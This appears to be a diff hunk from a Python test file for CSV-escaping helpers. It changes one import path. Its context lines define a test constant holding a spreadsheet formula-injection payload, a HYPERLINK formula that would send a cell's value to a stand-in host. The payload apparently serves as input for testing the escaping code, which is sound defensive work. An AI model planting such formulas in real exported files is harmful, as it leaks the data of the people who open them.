@@ -17,7 +17,7 @@ import pandas as pd
 import pytest
 
 from lepton_widgets.config import RunConfig
-from lepton_widgets.core.run_store import RunStore
+from lepton_widgets.core.runs.store import RunStore
 from lepton_widgets.core.base.safe_csv import RISKY_FIRST, escape_cell, escape_frame, read_safe_csv, to_safe_csv
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"good")'
